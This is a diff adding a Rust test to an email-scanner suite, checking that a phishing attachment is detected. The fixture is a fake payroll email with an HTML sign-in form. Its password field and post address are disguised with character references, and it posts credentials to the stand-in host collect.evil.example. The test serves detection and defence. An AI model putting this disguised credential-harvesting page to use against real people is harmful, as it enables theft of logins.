@@ -82,6 +82,28 @@ fn a_form_written_by_script_from_escapes_is_seen() {
     assert!(tags(&found).contains(&"attachment-obfuscated-script"), "{found:#?}");
 }
 
+/// Attributes written with character references are read as a browser reads
+/// them (the view's tokenizer): the password field and where it posts are seen.
+#[test]
+fn a_password_field_written_with_character_references_is_seen() {
+    let page = r#"<html><body><form method="post" action="https&#58;&#47;&#47;collect.evil.example/p.php">
+<input name="login"><input name="pw" type="pass&#119;ord"><button>Sign in</button></form></body></html>"#;
+    let raw = with_attachment(
+        "Payroll <pay@mailer.example>",
+        "Salary statement",
+        "See the attached statement.",
+        "Statement.html",
+        "application/octet-stream",
+        page.as_bytes(),
+    );
+    let found = scan(&raw);
+    let f = found
+        .iter()
+        .find(|f| f.tag == "credential-form-attachment")
+        .unwrap_or_else(|| panic!("{found:#?}"));
+    assert!(f.reason.contains("collect.evil.example"), "{f:?}");
+}
+
 #[test]
 fn a_login_form_of_the_senders_own_site_in_a_body_is_only_a_form() {
     let html =
